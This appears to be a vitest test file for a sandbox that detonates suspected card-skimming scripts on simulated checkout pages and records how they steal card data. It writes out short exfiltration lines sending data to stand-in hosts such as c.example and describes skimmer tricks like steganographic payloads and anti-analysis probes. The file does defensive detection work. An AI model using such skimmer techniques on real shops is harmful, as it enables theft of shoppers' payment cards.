// Every detonation sample in fixtures/detonate through one warm chamber: the card leaves by the
// way its .expected.json says, and a benign script sends nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sha256 } from '../../core/hash.ts'
import type { Observation } from '../../core/types.ts'
import { CHAMBER_VERSION, createChamber, type Chamber } from '../../crawler/detonate.ts'
import { TEST_VALUES } from '../../crawler/exfil-match.ts'
import { loadDetonateSamples, sampleResponses } from '../../fixtures/detonate/load.ts'

const samples = loadDetonateSamples()
const runnable = samples.filter((s) => (s.expected.status ?? 'ok') === 'ok')
const byName = (name: string) => {
  const s = samples.find((x) => x.name === name)
  if (!s) throw new Error(`no sample ${name}`)
  return s
}

let chamber: Chamber
const seen = new Map<string, Observation>()

/** Each sample is detonated once per file; tests that look closer reuse the observation. */
async function observe(name: string): Promise<Observation> {
  const known = seen.get(name)
  if (known) return known
  const s = byName(name)
  const o = await chamber.detonate(s.source, { html: s.html, pageUrl: s.expected.pageUrl ?? null })
  seen.set(name, o)
  return o
}

beforeAll(async () => {
  chamber = await createChamber({ responses: sampleResponses(samples) })
}, 30_000)

afterAll(async () => {
  await chamber?.close()
})

describe('detonation samples', () => {
  it('has the five hidden-exfiltration samples and a benign one', () => {
    const sending = runnable.filter((s) => s.expected.sends).map((s) => s.expected.via)
    expect(sending).toEqual(
      expect.arrayContaining(['image', 'fetch', 'css', 'websocket', 'beacon']),
    )
    expect(runnable.some((s) => !s.expected.sends)).toBe(true)
  })

  it.each(runnable.map((s) => [s.name, s] as const))(
    '%s',
    { timeout: 40_000 },
    async (name, sample) => {
      const o = await observe(name)
      expect(o.status, o.reason ?? '').toBe('ok')
      const carrying = o.requests.filter((r) => r.carriesCard)
      // what the sample did, for a failure's message
      const did = JSON.stringify({
        requests: o.requests.map((r) => `${r.type} ${r.method} ${r.url} ${r.carriesCard}`),
        listeners: o.listeners,
        reads: o.reads.length,
      })
      if (sample.expected.sends) {
        expect(
          carrying.map((r) => r.type),
          did,
        ).toContain(sample.expected.via)
      } else {
        expect(carrying).toEqual([])
      }
    },
  )
})

describe('what an observation records', () => {
  it("serves the checkouts at the page's own origin, where a host-keyed payload unlocks", async () => {
    const s = byName('host-keyed-payload')
    const there = await observe('host-keyed-payload')
    expect(there.pages.every((p) => p.startsWith('https://www.harbour-kites.test/'))).toBe(true)
    expect(there.compiled.map((c) => c.how)).toContain('Function')
    // on the chamber's own origin the key is wrong: the bytes stay noise, nothing runs or leaves
    const elsewhere = await chamber.detonate(s.source)
    expect(elsewhere.pages[0]).toMatch(/^https:\/\/shop\.example\//)
    expect(elsewhere.compiled).toEqual([])
    expect(elsewhere.requests.filter((r) => r.carriesCard)).toEqual([])
  })

  it("keeps an HTML sample's own inline scripts out of its run-time code", async () => {
    const o = await observe('footer-block-data-config')
    expect(o.requests.some((r) => r.carriesCard)).toBe(true)
    expect(o.compiled).toEqual([])
  })

  it('names the sample, the chamber and the six checkouts', async () => {
    const o = await observe('luhn-validator')
    expect(o.sha256).toBe(sha256(byName('luhn-validator').source))
    expect(o.chamberVersion).toBe(CHAMBER_VERSION)
    expect(o.pages).toEqual([
      'https://shop.example/checkout/#payment',
      expect.stringMatching(/\/checkout\/onepage\/.*billing.*onestepcheckout/),
      'https://shop.example/checkout/',
      // WooCommerce's block checkout, at the same address as its classic one
      'https://shop.example/checkout/',
      'https://shop.example/index.php?route=checkout/checkout',
      'https://shop.example/order',
    ])
    // It read the card to validate it, listened for input, and sent nothing at all.
    expect(o.listeners).toContainEqual({ target: 'document', type: 'input' })
    expect(o.requests).toEqual([])
  })

  it('keeps code decoded at run time as a layer: pixels, comments', async () => {
    const stego = await observe('stego-png')
    expect(stego.compiled).toContainEqual({
      how: 'Function',
      source: expect.stringContaining('cdn-analytics.example/pixel.gif') as string,
    })
    const comment = await observe('comment-payload')
    expect(comment.compiled).toContainEqual({
      how: 'eval',
      source: expect.stringContaining('jquery-cdn-min.example') as string,
    })
  })

  it("keeps every kind of run-time code, and none of the chamber's own", async () => {
    const o = await observe('run-time-code')
    const made = o.compiled.map((c) => [c.how, /\/\* (.*) \*\//.exec(c.source)?.[1] ?? c.source])
    expect(made).toEqual(
      expect.arrayContaining([
        ['script', 'injected script text'],
        ['script', 'through jQuery'],
        ['setInterval', 'setInterval string'],
        ['handler', 'handler attribute'],
        ['eval', 'eval in a frame'],
        ['Function', 'Function'],
        ['setTimeout', 'setTimeout string from a ready callback'],
        ['setTimeout', 'setTimeout string due after the page time played'],
      ]),
    )
    expect(o.compiled).toHaveLength(8)
  })

  it('says how the card was encoded', async () => {
    const o = await observe('websocket')
    const frame = o.requests.find((r) => r.type === 'websocket' && r.carriesCard)
    expect(frame?.method).toBe('SEND')
    expect(frame?.encodings).toEqual(expect.arrayContaining(['base64', 'json']))
    expect(frame?.body).not.toContain(TEST_VALUES.card)
  })

  it('goes on to the order-confirmation page only when the sample wrote to storage', async () => {
    const stash = await observe('stash-until-success')
    expect(stash.storage).toContainEqual({ area: 'sessionStorage', key: '_vw_st' })
    expect(stash.pages.at(-1)).toBe('https://shop.example/checkout/onepage/success/')
    // nothing left on the checkouts themselves: the card went out from the confirmation page
    const sent = stash.requests.filter((r) => r.carriesCard)
    expect(sent.map((r) => r.type)).toEqual(['image'])
    const quiet = await observe('luhn-validator')
    expect(quiet.storage).toEqual([])
    expect(quiet.pages).not.toContain('https://shop.example/checkout/onepage/success/')
  })

  it('records anti-analysis probes, storage writes and serialized reads', async () => {
    const o = await observe('anti-analysis')
    expect(o.probes).toEqual(
      expect.arrayContaining([
        'navigator.webdriver',
        'window.outerWidth',
        'navigator.userAgent',
        'debugger statement',
      ]),
    )
    expect(o.storage).toContainEqual({ area: 'localStorage', key: '_ga_cid' })
    expect(o.reads).toContainEqual({ field: 'payment[cc_number]', how: 'serialize' })
    expect(o.reads).toContainEqual({ field: 'payment[cc_exp_month]', how: 'serialize' })
  })

  it('serves the sample from the URL it was seen at', async () => {
    const src = 'https://cdn.jsdelivr-cache.example/npm/slick@1.8.1/slick.min.js'
    const o = await chamber.detonate(
      "new Image().src = 'https://c.example/p?from=' + encodeURIComponent(document.currentScript.src)",
      { url: src },
    )
    expect(o.requests.map((r) => decodeURIComponent(r.url))).toContain(
      `https://c.example/p?from=${src}`,
    )
  })

  it('records injected elements and listeners added late', async () => {
    const css = await observe('css-url')
    expect(css.injected).toContainEqual({
      tag: 'style',
      url: expect.stringMatching(/^https:\/\/fonts-static\.example\/bg\.png\?t=/) as string,
    })
    const late = await observe('delayed-hook')
    expect(late.listeners).toContainEqual({
      target: 'button.action.primary.checkout',
      type: 'click',
    })
    expect(late.listeners).toContainEqual({
      target: 'button#place_order[name="woocommerce_checkout_place_order"]',
      type: 'click',
    })
  })
})

describe('a sample that navigates the page itself', () => {
  it('is still played on every checkout when it reloads the page as it loads', async () => {
    // Each checkout's first load is sent elsewhere by the sample while it loads: the chamber's
    // own navigation is stopped (or aborted and made again), and the buyer is played regardless.
    const o = await chamber.detonate(
      "var k = 'r' + location.pathname + location.search; if (!sessionStorage.getItem(k)) {" +
        " sessionStorage.setItem(k, '1'); location.replace(location.pathname + location.search + '?again') }" +
        " document.addEventListener('click', function () { new Image().src = 'https://c.example/seen?at=' + encodeURIComponent(location.href) })",
    )
    expect(o.status, o.reason ?? '').toBe('ok')
    // six checkouts, then the order confirmation: the sample wrote to sessionStorage
    expect(o.pages).toHaveLength(7)
    const seen = o.requests.filter((r) => r.url.startsWith('https://c.example/seen'))
    // WooCommerce's two checkouts share one address
    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(5)
  })
})
